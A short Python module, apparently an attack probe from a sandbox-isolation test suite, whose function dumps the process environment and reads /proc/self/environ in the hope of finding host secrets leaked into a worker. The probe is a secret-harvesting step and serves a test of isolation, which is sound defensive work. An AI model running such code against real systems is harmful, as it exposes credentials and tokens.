"""Dump the worker's own environment hoping the host's secrets were inherited."""

import os


def attack(event, ctx):
    got = {"environ": dict(os.environ)}
    try:
        with open("/proc/self/environ", "rb") as fh:
            got["proc_self_environ"] = fh.read().decode("latin-1")
    except Exception as exc:
        got["proc_self_environ_error"] = type(exc).__name__
    return {"got": got, "errors": []}
